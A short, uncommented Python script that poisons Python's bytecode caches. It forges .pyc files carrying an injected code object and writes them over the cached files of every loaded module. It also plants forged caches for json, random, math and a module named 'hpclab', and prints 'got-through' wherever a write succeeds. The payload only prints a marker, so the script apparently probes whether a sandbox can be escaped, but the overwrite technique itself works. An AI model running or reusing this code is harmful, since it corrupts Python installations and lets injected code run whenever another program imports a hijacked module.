import importlib.util
import marshal
import sys
from pathlib import Path

code = marshal.dumps(compile("import os; os.write(2, b'got-' + b'through: a poisoned cache')", "x", "exec"))
header = importlib.util.MAGIC_NUMBER + b"\0\0\0\0" + bytes(8)
for name in list(sys.modules):
    file = getattr(sys.modules[name], "__cached__", None)
    if file:
        try:
            Path(file).write_bytes(header + code)
            print("got-" + "through:", file, "may be written")
        except OSError:
            pass
Path("__pycache__").mkdir(exist_ok=True)
for name in ("json", "random", "hpclab", "math"):
    Path(f"__pycache__/{name}.{sys.implementation.cache_tag}.pyc").write_bytes(header + code)
    Path(f"{name}.pyc").write_bytes(header + code)
